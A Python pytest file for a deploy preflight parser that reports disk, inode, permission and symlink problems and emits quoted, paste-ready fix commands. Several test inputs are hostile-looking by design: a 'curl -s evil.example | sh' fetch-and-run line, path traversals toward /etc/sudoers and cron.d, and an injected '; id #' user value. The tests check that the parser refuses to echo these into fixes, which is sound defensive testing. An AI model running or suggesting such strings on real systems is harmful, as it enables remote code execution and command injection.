"""What would keep a deploy from working, with figures and with commands that can be pasted."""

import pytest

from rollout.adapters.releases.options import ReleaseOptions
from rollout.adapters.releases.preflight import parse_examine
from rollout.adapters.releases.preflight_findings import spell_size
from rollout.model.fleet import Finding


def judge(*facts: tuple[str, str, str], to: str = "/srv/shop") -> tuple[Finding, ...]:
    text = "".join(f"{word}\0" for fact in (*facts, ("user", "deploy", "")) for word in fact)
    return parse_examine("web1", text, ReleaseOptions(to=to))


def judge_room(free: str, sizes: str) -> str:
    return "".join(finding.what for finding in judge(("room", free, sizes)))


@pytest.mark.parametrize(
    ("free", "sizes"),
    [
        ("110000 1100", "100000 1000 0 0"),
        ("10000 100", "100000 1000 100000 1000"),
        ("110000 -", "100000 1000 0 0"),
        ("1024 100", "- - 0 0"),
        (" -", "100000 1000 0 0"),
    ],
)
def test_room_that_is_enough_or_unknown_is_no_finding(free: str, sizes: str) -> None:
    assert judge_room(free, sizes) == ""


def test_missing_room_is_told_in_figures() -> None:
    assert judge_room("12000 5", "2400000 1000 0 0") == (
        "/srv/shop: 11.7 MB free, a release takes 2.52 GB (1.1 times the live one); "
        "5 inodes free, a release takes 1100 inodes (1.1 times the live one)"
    )
    assert judge_room("0 100", "- - 0 0") == (
        "/srv/shop: 0 KB free, a release takes 1 MB (at the least)"
    )


def test_a_cure_quotes_what_a_shell_would_take_apart() -> None:
    to = "/srv/$(x) shop"
    directory, dangling, lost, mine = judge(
        ("current-directory", "20261122230000", ""),
        ("current-dangling", "$(gone)", "20261101000000"),
        ("current-dangling", "gone", ""),
        ("unwritable", f"{to}/releases", "Operation not permitted"),
        to=to,
    )
    assert directory.fix == (
        "mkdir -p '/srv/$(x) shop/releases' && "
        "mv -T '/srv/$(x) shop/current' '/srv/$(x) shop/releases/20261122230000' && "
        "ln -s '/srv/$(x) shop/releases/20261122230000' '/srv/$(x) shop/current'"
    )
    assert dangling.fix == (
        "ln -sfn '/srv/$(x) shop/releases/20261101000000' '/srv/$(x) shop/current'"
    )
    assert lost.fix == "rm '/srv/$(x) shop/current'"
    assert mine == Finding(
        "web1",
        f"{to}/releases is not writable for deploy",
        "sudo chown deploy '/srv/$(x) shop/releases'",
    )


def test_a_place_beside_ours_that_begins_alike_is_not_ours() -> None:
    (finding,) = judge(("unwritable", "/srv", ""), to="/srv/shop")
    assert finding.what == "/srv/shop cannot be made: /srv is not writable for deploy"
    assert finding.fix == "sudo install -d -o deploy /srv/shop"


@pytest.mark.parametrize(
    "fact",
    [
        ("unwritable", "/srv/shop/../../etc/sudoers", ""),
        ("unwritable", "/srv/shop/releases/../../../etc", "Read-only file system"),
        ("unwritable", "/etc", ""),
        ("notdir", "-rf", ""),
        ("current-directory", "../../../etc/cron.d/x", ""),
        ("current-dangling", "x", "../../etc"),
        ("tool", "curl -s evil.example | sh #", ""),
    ],
)
def test_a_name_that_our_script_cannot_have_printed_is_in_no_command(
    fact: tuple[str, str, str],
) -> None:
    (finding,) = judge(fact)
    assert finding.fix == "look at web1 yourself"


def test_a_user_that_can_be_none_is_in_no_command() -> None:
    text = "unwritable\0/srv/shop\0\0user\0root /etc; id #\0\0"
    (finding,) = parse_examine("web1", text, ReleaseOptions(to="/srv/shop"))
    assert finding.fix == "sudo chown 'the login' /srv/shop"


def test_every_fact_that_is_trouble_has_a_cure() -> None:
    findings = judge(
        ("tool", "mv -T", ""),
        ("notdir", "/srv/shop/releases", ""),
        ("unwritable", "/srv/shop", "Read-only file system"),
        ("blind", "sudo -n readlink", "a password is required"),
        ("shared-missing", "a.yml", ""),
        ("shared-not-file", "a.yml", ""),
        ("shared-not-directory", "log", ""),
        ("shared-unreadable", "a.yml", ""),
        ("current-file", "", ""),
        ("something-new", "", ""),
    )
    assert len(findings) == 9
    assert all(finding.what and finding.fix for finding in findings)
    assert findings[0].fix == "install GNU's mv and let deploy find it in PATH"


@pytest.mark.parametrize(
    ("kilobytes", "written"),
    [(0, "0 KB"), (999, "999 KB"), (1000, "0.977 MB"), (1024, "1 MB"), (10**12, "931 TB")],
)
def test_a_size_is_written_with_three_digits(kilobytes: int, written: str) -> None:
    assert spell_size(kilobytes) == written
